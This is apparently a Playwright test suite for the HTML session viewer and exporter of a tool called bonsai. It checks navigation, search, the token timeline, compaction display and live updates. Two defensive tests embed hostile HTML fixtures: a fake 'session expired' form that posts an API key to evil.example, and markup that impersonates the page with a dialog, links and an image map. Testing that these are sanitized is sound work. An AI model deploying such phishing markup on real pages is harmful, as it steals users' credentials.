/**
 * The session page in a real browser (Chromium through playwright-core; `npm run test:browser`):
 * the exported example opened from file://, clicked through, searched, filtered and deep-linked;
 * the timeline checked against `bonsai context`; a large generated session; and `bonsai view`
 * following a session as entries are appended.
 */
import assert from "node:assert/strict";
import { type ChildProcess, spawn } from "node:child_process";
import { readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { after, before, describe, it } from "node:test";
import type { Browser, Page } from "playwright-core";
import { sessionContextReport } from "../../src/ops/context.js";
import { SessionManager } from "../../src/session/manager.js";
import type { ViewModel } from "../../src/view/model.js";
import { launchBrowser } from "../helpers/browser.js";
import { ROOT, runBonsai } from "../helpers/cli.js";
import { assistantMsg, tempDir, userMsg } from "../helpers/session-builders.js";
import { compactedExample, EXAMPLE, largeSession } from "../helpers/view-sessions.js";
import { BONSAI_ARGS } from "../helpers/bonsai-bin.js";

const { dir, cleanup } = tempDir();
let browser: Browser;
before(async () => {
  browser = await launchBrowser();
});
after(async () => {
  await browser?.close();
  cleanup();
});

async function exportHtml(location: string, name: string, extra: string[] = []): Promise<{ url: string; model: ViewModel }> {
  const out = join(dir, name);
  const run = await runBonsai(["export", location, "--html", "-o", out, "--context-window", "200000", ...extra]);
  assert.equal(run.code, 0, run.stderr);
  const html = readFileSync(out, "utf8");
  const model = JSON.parse(/<script id="bonsai-data" type="application\/json">([\s\S]*?)<\/script>/.exec(html)![1]) as ViewModel;
  return { url: pathToFileURL(out).href, model };
}

/** A page that fails the test on any script error or any request leaving the file. */
async function open(url: string): Promise<{ page: Page; errors: string[]; requests: string[] }> {
  const page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
  const errors: string[] = [];
  const requests: string[] = [];
  page.on("pageerror", (error) => errors.push(String(error)));
  page.on("console", (message) => {
    if (message.type() === "error") errors.push(message.text());
  });
  page.on("request", (request) => requests.push(request.url()));
  await page.goto(url);
  await page.waitForSelector("body[data-ready=true]", { timeout: 15_000 });
  return { page, errors, requests };
}

/** Follows a deep link, as a click on an `#id` link does. */
const goTo = (page: Page, id: string) => page.evaluate(`location.hash = ${JSON.stringify(id)}`);

/**
 * Waits until the element `selector` names is entry `id`'s. A locator, not a polled predicate:
 * the page's Content-Security-Policy forbids the eval Playwright polls a string predicate with,
 * so such a wait failed whenever its first check came too early.
 */
const selectedIn = (page: Page, selector: string, id: string) => page.locator(`${selector}[data-id=${JSON.stringify(id)}]`).waitFor({ timeout: 15_000 });

const selectedCard = (page: Page) => page.locator("#entries article.entry.selected").getAttribute("data-id");

describe("the exported example, offline", () => {
  let url: string;
  let model: ViewModel;
  before(async () => {
    ({ url, model } = await exportHtml(EXAMPLE, "example.html"));
  });

  it("shows the tree and the active path, and loads nothing from the network", async () => {
    const { page, errors, requests } = await open(url);
    assert.equal(await page.locator("h1").textContent(), "tasktrack: pagination, rate limiting, 0.4.0");
    assert.ok((await page.locator("#tree .tree-row").count()) > 10);
    // the leaf is selected at the start, and its card is on screen
    assert.equal(await selectedCard(page), model.leafId);
    assert.equal(await page.locator(`#tree .tree-row.leaf`).getAttribute("data-id"), model.leafId);
    assert.ok((await page.locator("#entries article.entry").count()) < model.activePath.length, "only what is on screen is rendered");
    assert.deepEqual(requests.filter((r) => !r.startsWith("file:") && !r.startsWith("data:")), []);
    assert.deepEqual(errors, []);
    await page.close();
  });

  it("clicking through the tree shows each entry, another branch's path, and collapses a fork", async () => {
    const { page, errors } = await open(url);
    const fork = model.nodes.find((n) => n.children > 1)!;
    const offPath = model.nodes.find((n) => n.parentId === fork.id && !model.activePath.includes(n.id))!;
    assert.ok(offPath, "the example has a branch beside the active path");
    // go to the fork by its link, then click the abandoned branch's first row in the tree
    await goTo(page, fork.id);
    await selectedIn(page, "#tree .tree-row.selected", fork.id);
    await page.locator(`#tree .tree-row[data-id="${offPath.id}"]`).click();
    assert.equal(await selectedCard(page), offPath.id);
    assert.equal(new URL(page.url()).hash, `#${offPath.id}`);
    // the entries now follow that branch: the active path's next entry after the fork is gone
    const activeChild = model.activePath[model.activePath.indexOf(fork.id) + 1];
    assert.equal(await page.locator(`#entries article[data-id="${activeChild}"]`).count(), 0);
    // clicking rows one after another selects each
    const rows = page.locator("#tree .tree-row");
    for (let i = 0; i < 3; i++) {
      const row = rows.nth(i);
      const id = await row.getAttribute("data-id");
      await row.click();
      assert.equal(await selectedCard(page), id);
    }
    // collapse the fork: its branches' rows disappear; expand: they come back
    await goTo(page, fork.id);
    await selectedIn(page, "#tree .tree-row.selected", fork.id);
    await page.locator(`#tree .tree-row[data-id="${fork.id}"] .toggle`).click();
    assert.equal(await page.locator(`#tree .tree-row[data-id="${offPath.id}"]`).count(), 0);
    await page.locator(`#tree .tree-row[data-id="${fork.id}"] .toggle`).click();
    assert.equal(await page.locator(`#tree .tree-row[data-id="${offPath.id}"]`).count(), 1);
    // a branch summary links to the branch it describes, whose first row is marked
    const summary = model.nodes.find((n) => n.type === "branch_summary")!;
    await goTo(page, summary.id);
    const described = summary.describes![0];
    await page.locator(`#entries article[data-id="${summary.id}"] .branch-meta a[href="#${described}"]`).click();
    assert.equal(await selectedCard(page), described);
    assert.equal(await page.locator(`#tree .tree-row[data-id="${described}"] .summarized-badge`).count(), 1);
    assert.deepEqual(errors, []);
    await page.close();
  });

  it("searches all text, filters, follows a deep link, moves with the keyboard and switches theme", async () => {
    const target = model.activePath[Math.floor(model.activePath.length / 2)];
    const { page, errors } = await open(`${url}#${target}`);
    assert.equal(await selectedCard(page), target, "the deep link selects its entry");
    // search: the count is the entries whose text holds the word, Enter goes to the first
    const word = "pentest";
    const expected = model.nodes.filter((n) => JSON.stringify(model.bodies?.[n.id] ?? []).toLowerCase().includes(word) || n.preview.toLowerCase().includes(word));
    await page.locator("#search").fill(word);
    await page.locator("#search").press("Enter");
    await page.locator("#search-count", { hasText: "match" }).waitFor();
    assert.equal(await page.locator("#search-count").textContent(), `${expected.length} ${expected.length === 1 ? "match" : "matches"}`);
    assert.equal(await page.locator("#tree .tree-row").count(), expected.length, "the tree shows the matches");
    assert.equal(await selectedCard(page), expected[0].id);
    await page.locator("#search").press("Escape");
    // filters: user messages only, then errors only
    await page.locator('button[data-filter="user"]').click();
    const kinds = await page.locator("#tree .tree-row .kind").allTextContents();
    assert.ok(kinds.length > 0 && kinds.every((k) => k === "user"), kinds.join(","));
    await page.locator('button[data-filter="user"]').click();
    await page.locator('button[data-filter="errors"]').click();
    const errorRows = await page.locator("#tree .tree-row").count();
    assert.equal(errorRows, Math.min(model.nodes.filter((n) => n.flags.error).length, errorRows));
    assert.ok(errorRows > 0);
    assert.equal(await page.locator("#tree .tree-row:not(.error)").count(), 0);
    await page.locator('button[data-filter="errors"]').click();
    // keyboard: down moves to the next row of the tree
    await page.locator("#tree").focus();
    await goTo(page, target);
    await selectedIn(page, "#tree .tree-row.selected", target);
    await page.keyboard.press("ArrowDown");
    const next = model.nodes[model.nodes.findIndex((n) => n.id === target) + 1].id;
    assert.equal(await selectedCard(page), next);
    await page.keyboard.press("ArrowUp");
    assert.equal(await selectedCard(page), target);
    // themes: the toggle switches the colors
    const light = await page.evaluate("getComputedStyle(document.body).backgroundColor");
    await page.keyboard.press("t");
    const dark = await page.evaluate("getComputedStyle(document.body).backgroundColor");
    assert.notEqual(light, dark);
    assert.deepEqual(errors, []);
    await page.close();
  });

  it("draws one timeline point per turn with the estimate of `bonsai context` and the reported usage", async () => {
    const { page } = await open(url);
    const points = await page.locator("#timeline circle.pt-estimate").evaluateAll((els) => els.map((e) => ({ id: e.getAttribute("data-id")!, tokens: Number(e.getAttribute("data-tokens")) })));
    assert.equal(points.length, model.timeline.length);
    // a point per assistant turn, and one per compaction (the example has one, after the release)
    const turns = model.activePath.filter((id) => ["assistant", "compaction"].includes(model.nodes.find((n) => n.id === id)?.kind ?? ""));
    assert.ok(turns.some((id) => model.nodes.find((n) => n.id === id)?.kind === "compaction"), "the compaction is on the timeline");
    assert.deepEqual(points.map((p) => p.id), turns);
    for (const point of points) {
      const report = await sessionContextReport(EXAMPLE, { leaf: point.id });
      assert.equal(point.tokens, report.estimatedTokens, `estimate at ${point.id}`);
    }
    // and a few through the command itself
    for (const point of [points[0], points[Math.floor(points.length / 2)], points[points.length - 1]]) {
      const run = await runBonsai(["context", EXAMPLE, "--leaf", point.id, "--json"]);
      assert.equal(JSON.parse(run.stdout).estimatedTokens, point.tokens);
    }
    assert.ok((await page.locator("#timeline circle.pt-usage").count()) > 0, "usage reported by the provider is drawn");
    // the card of a turn carries the same numbers; a click on a point selects its entry
    const last = model.timeline[model.timeline.length - 1];
    await page.locator(`#timeline circle.pt-estimate[data-id="${last.id}"]`).dispatchEvent("click");
    assert.equal(await selectedCard(page), last.id);
    const context = await page.locator(`#entries article[data-id="${last.id}"] .context`).textContent();
    assert.equal(context, `context ~${last.estimate.toLocaleString("en-US")}${last.usage !== undefined ? `, ${last.usage.toLocaleString("en-US")} reported` : ""}`);
    assert.equal(await page.locator("#timeline line.threshold").count(), 1);
    await page.close();
  });
});

describe("a compacted and pruned session", () => {
  it("draws the compaction as a boundary, expands its summary, and shows a pruned result's original", async () => {
    const { file, compactionId } = await compactedExample(dir);
    const { url, model } = await exportHtml(file, "compacted.html");
    const { page, errors } = await open(`${url}#${compactionId}`);
    const card = page.locator(`#entries article[data-id="${compactionId}"]`);
    assert.equal(await card.count(), 1);
    const info = model.nodes.find((n) => n.id === compactionId)!.compaction!;
    assert.match((await card.locator(".compaction-meta").textContent()) ?? "", new RegExp(`${info.tokensBefore.toLocaleString("en-US")} → ${info.tokensAfter.toLocaleString("en-US")} tokens`));
    const summary = card.locator("details.compaction-summary");
    assert.equal(await summary.getAttribute("open"), null, "the summary starts collapsed");
    await summary.locator("summary").click();
    assert.equal(await summary.getAttribute("open"), "");
    assert.ok(await summary.locator(".md").isVisible());
    // its first kept entry is marked, the entries it summarized are greyed
    await card.locator(".compaction-meta a").first().click();
    const kept = page.locator(`#entries article[data-id="${info.firstKeptEntryId}"]`);
    assert.match((await kept.getAttribute("class")) ?? "", /first-kept/);
    await goTo(page, info.summarizedFrom!);
    const first = page.locator(`#entries article[data-id="${info.summarizedFrom}"]`);
    await first.waitFor();
    assert.match((await first.getAttribute("class")) ?? "", /summarized/);
    // the timeline drops at the compaction
    const drop = page.locator(`#timeline circle.pt-compaction[data-id="${compactionId}"]`);
    assert.equal(Number(await drop.getAttribute("data-tokens")), info.tokensAfter);
    // a pruned result: its original is one click away
    const pruned = model.nodes.find((n) => n.flags.pruned)!;
    await goTo(page, pruned.id);
    const prunedCard = page.locator(`#entries article[data-id="${pruned.id}"]`);
    const original = prunedCard.locator(".original");
    assert.equal(await original.isVisible(), false);
    await prunedCard.locator("button.show-original").click();
    assert.ok(await original.isVisible());
    assert.ok((await original.locator(".block.output").count()) > 0, "the archived output is shown");
    assert.deepEqual(errors, []);
    await page.close();
  });
});

describe("what a compaction dropped", () => {
  it("lists the facts its summary does not mention, each linked to its entry", async () => {
    const file = join(dir, "vague.jsonl");
    const session = SessionManager.open(file);
    const ask = session.appendMessage(userMsg("Add paging to `listInvoices` in src/invoices.ts; keep `pageSize` at most 200."));
    session.appendMessage(assistantMsg("Paging is in: `listInvoices` takes a cursor."));
    const kept = session.appendMessage(userMsg("Now the totals."));
    const compactionId = session.appendCompaction("## Goal\nPaging for the invoices list.", kept, 1000);
    await session.close();
    const { url, model } = await exportHtml(file, "vague.html");
    const info = model.nodes.find((n) => n.id === compactionId)!.compaction!;
    assert.ok(info.dropped?.some((d) => d.text === "listInvoices" && d.entryId === ask), JSON.stringify(info.dropped));
    const { page, errors } = await open(`${url}#${compactionId}`);
    const dropped = page.locator(`#entries article[data-id="${compactionId}"] details.dropped`);
    assert.equal(await dropped.locator("summary").textContent(), `not in the summary: ${info.dropped?.length} of ${info.factsChecked} facts`);
    await dropped.locator("summary").click();
    const item = dropped.locator("li", { hasText: "identifier: listInvoices" });
    assert.ok(await item.isVisible());
    await item.locator("a").click();
    await selectedIn(page, "#entries article.entry.selected", ask);
    assert.deepEqual(errors, []);
    await page.close();
  });
});

describe("a large session", () => {
  it("renders only what is on screen, for the export (bounded) and for view", async () => {
    const big = largeSession(dir, 5000, 1500);
    assert.ok(big.bytes > 8_000_000, `${big.bytes} bytes`);
    const { url, model } = await exportHtml(big.file, "large.html", ["--max-bytes", "4mb"]);
    assert.ok(model.omitted && model.omitted.blocks > 0);
    assert.ok(statSync(join(dir, "large.html")).size <= 4 * 1024 * 1024, "within its bound");
    const started = Date.now();
    const { page, errors } = await open(url);
    assert.ok(Date.now() - started < 15_000);
    assert.ok((await page.locator("#entries article.entry").count()) < 80, "a few cards, not thousands");
    assert.ok((await page.locator("#tree .tree-row").count()) < 200);
    assert.match((await page.locator("#omitted").textContent()) ?? "", /bounded to 4,194,304 bytes/);
    // even clipped, 15,000 bodies outgrow 4 MB: the newest on the active path are the ones kept
    const recent = big.mainLine[big.mainLine.length - 20];
    await goTo(page, recent);
    await selectedIn(page, "#entries article.selected", recent);
    assert.match((await page.locator("#entries .clipped").first().textContent()) ?? "", /more characters left out/);
    // an early one was left out, and its card says so
    const early = big.mainLine[1];
    assert.equal(model.bodies?.[early], undefined);
    await goTo(page, early);
    await selectedIn(page, "#entries article.selected", early);
    assert.match((await page.locator(`#entries article[data-id="${early}"]`).textContent()) ?? "", /body left out of this export/);
    assert.deepEqual(errors, []);
    await page.close();

    // view: bodies come from the server as they scroll into sight
    const view = await startView(big.file);
    try {
      const live = await open(view.url);
      const deep = big.mainLine[Math.floor(big.mainLine.length / 2) + 7];
      await goTo(live.page, deep);
      const card = live.page.locator(`#entries article[data-id="${deep}"]`);
      await card.locator(".entry-body .block").first().waitFor();
      assert.ok((await live.page.locator("#entries article.entry").count()) < 80);
      // images are inline: the one of turn 3's tool result
      const withImage = big.mainLine[3 * 3 + 2];
      await goTo(live.page, withImage);
      const img = live.page.locator(`#entries article[data-id="${withImage}"] img.image`);
      await img.waitFor();
      assert.equal(await img.evaluate((el) => (el as unknown as { naturalWidth: number }).naturalWidth), 1);
      assert.deepEqual(live.errors, []);
      await live.page.close();
    } finally {
      await view.stop();
    }
  });
});

/** `bonsai view FILE` as a user runs it; resolves once it printed its address. */
async function startView(file: string): Promise<{ url: string; stop: () => Promise<void> }> {
  const child: ChildProcess = spawn(process.execPath, [...BONSAI_ARGS, "view", file, "--port", "0", "--context-window", "200000"], { cwd: ROOT, env: { ...process.env, NO_COLOR: "1" } });
  let stderr = "";
  child.stderr!.on("data", (d) => {
    stderr += d;
  });
  const url = await new Promise<string>((resolve, reject) => {
    let out = "";
    child.stdout!.on("data", (d) => {
      out += d;
      const match = /bonsai view: (http:\/\/127\.0\.0\.1:\d+\/)/.exec(out);
      if (match) resolve(match[1]);
    });
    child.on("exit", (code) => reject(new Error(`bonsai view exited with ${code}: ${stderr}`)));
  });
  return {
    url,
    stop: () =>
      new Promise<void>((done) => {
        child.once("exit", () => done());
        child.kill("SIGINT");
      }),
  };
}

describe("bonsai view", () => {
  it("updates the open page when an entry is appended", async () => {
    const { file } = await compactedExample(dir);
    const view = await startView(file);
    try {
      const { page, errors } = await open(view.url);
      assert.equal(await page.locator("#status").textContent(), "live");
      const writer = SessionManager.open(file);
      writer.appendMessage(userMsg("Appended while the page is open: does view see it?"));
      const id = writer.appendMessage(assistantMsg("Yes, **live**."));
      await writer.close();
      const card = page.locator(`#entries article[data-id="${id}"]`);
      await card.waitFor({ timeout: 10_000 });
      assert.equal(await card.locator(".md strong").textContent(), "live");
      assert.equal(await page.locator("#tree .tree-row.leaf").getAttribute("data-id"), id);
      assert.match((await page.locator("#status").textContent()) ?? "", /^live · updated/);
      assert.deepEqual(errors, []);
      await page.close();
    } finally {
      await view.stop();
    }
  });
});

/** Issue 26, defect 4: session text can neither post a form away nor restyle the page. */
describe("a session written to phish", () => {
  it("renders no form and no style from the session, and the page forbids posting anywhere", async () => {
    const file = join(dir, "phish.jsonl");
    const form = '<form action="https://evil.example/steal" method="post"><p>Session expired: re-enter your API key</p><input name="key"><button>Continue</button></form>';
    const style = "<style>body { display: none !important }</style><p style=\"position:fixed;inset:0;background:red\">covered</p>";
    writeFileSync(
      file,
      `${[
        { type: "session", version: 3, id: "phish", timestamp: "2026-01-01T00:00:00.000Z", cwd: "/tmp" },
        { type: "message", id: "u1", parentId: null, timestamp: "2026-01-01T00:00:01.000Z", message: { role: "user", content: `${form}\n\n${style}`, timestamp: 1 } },
      ]
        .map((l) => JSON.stringify(l))
        .join("\n")}\n`,
    );
    const { url } = await exportHtml(file, "phish.html");
    assert.match(readFileSync(join(dir, "phish.html"), "utf8"), /form-action 'none'; base-uri 'none'/);
    const { page, errors } = await open(`${url}#u1`);
    await page.locator('#entries article[data-id="u1"]').waitFor();
    assert.equal(await page.locator("#entries form, #entries input, #entries button:not(.show-original), #entries style").count(), 0);
    assert.equal(await page.locator('#entries article[data-id="u1"] .md [style]').count(), 0, "no style attribute from the session");
    assert.ok(await page.locator("body").isVisible(), "the page is not restyled away");
    assert.match((await page.locator('#entries article[data-id="u1"]').textContent()) ?? "", /re-enter your API key/);
    assert.deepEqual(errors, []);
    await page.close();
  });
});

/** From an audit: session markup drawn as the page's own (its classes), over it (a dialog), or a header that hides the page. */
describe("a session written to pass for the page", () => {
  it("keeps no class, id, dialog or image map from the session, no class from an entry's type, and a short plain header", async () => {
    const file = join(dir, "pose.jsonl");
    const posing =
      '<div class="notice-bar">This export is bounded</div> <a class="id-link" id="u1" href="https://evil.example/x">deadbeef</a> <span class="leaf-badge">current leaf</span> <dialog open>Session expired</dialog> <img usemap="#m" src="data:image/png;base64,iVBORw0KGgo="><map name="m"><area href="https://evil.example" shape="rect" coords="0,0,10,10"></map>';
    const name = `\u202e${"very long name ".repeat(1500)}`;
    writeFileSync(
      file,
      `${[
        { type: "session", version: 3, id: "pose\u202e · 1 entries", timestamp: "2026-01-01T00:00:00.000Z", cwd: "/tmp" },
        { type: "message", id: "u1", parentId: null, timestamp: "2026-01-01T00:00:01.000Z", message: { role: "user", content: posing, timestamp: 1 } },
        { type: "x selected notice-bar", id: "x1", parentId: "u1", timestamp: "2026-01-01T00:00:02.000Z" },
        { type: "session_info", id: "n1", parentId: "x1", timestamp: "2026-01-01T00:00:03.000Z", name },
      ]
        .map((l) => JSON.stringify(l))
        .join("\n")}\n`,
    );
    const { url } = await exportHtml(file, "pose.html");
    const { page } = await open(`${url}#u1`);
    await page.locator('#entries article[data-id="u1"]').waitFor();
    const card = page.locator('#entries article[data-id="u1"] .md');
    assert.equal(await card.locator("[class], [id]").count(), 0, "no class or id from the session");
    assert.equal(await card.locator("dialog, map, area").count(), 0, "no dialog or image map");
    assert.match((await card.textContent()) ?? "", /This export is bounded/, "the text itself is shown");
    for (const selector of ['#entries article[data-id="x1"]', '.tree-row[data-id="x1"]']) {
      const classes = (await page.locator(selector).first().getAttribute("class")) ?? "";
      assert.ok(!/(^| )(selected|notice-bar)( |$)/.test(classes), `${selector}: ${classes}`);
    }
    const heading = (await page.locator("h1").textContent()) ?? "";
    assert.ok(heading.length <= 120 && !heading.includes("\u202e"), heading.slice(0, 40));
    assert.ok(!((await page.locator(".info").first().textContent()) ?? "").includes("\u202e"));
    await page.close();
  });
});

/** Issue 26, defect 14: an id with `%` or a comma, and a deep link with a bare `%`. */
describe("odd entry ids in bonsai view", () => {
  it("a deep link to an id with % starts the page; an id with a comma gets its body", async () => {
    const file = join(dir, "odd-ids.jsonl");
    const lines = [
      { type: "session", version: 3, id: "odd-ids", timestamp: "2026-01-01T00:00:00.000Z", cwd: "/tmp" },
      { type: "message", id: "50%", parentId: null, timestamp: "2026-01-01T00:00:01.000Z", message: { role: "user", content: "the percent entry", timestamp: 1 } },
      { type: "message", id: "a,b", parentId: "50%", timestamp: "2026-01-01T00:00:02.000Z", message: { role: "user", content: "the comma entry", timestamp: 2 } },
    ];
    writeFileSync(file, `${lines.map((l) => JSON.stringify(l)).join("\n")}\n`);
    const view = await startView(file);
    try {
      const { page, errors } = await open(`${view.url}#50%`);
      await page.locator('#entries article[data-id="50%"]').waitFor();
      await page.locator('#entries article[data-id="a,b"] .md').waitFor({ timeout: 10_000 });
      assert.match((await page.locator('#entries article[data-id="a,b"]').textContent()) ?? "", /the comma entry/);
      assert.match((await page.locator('#entries article[data-id="50%"]').textContent()) ?? "", /the percent entry/);
      assert.deepEqual(errors, []);
      await page.close();
    } finally {
      await view.stop();
    }
  });
});
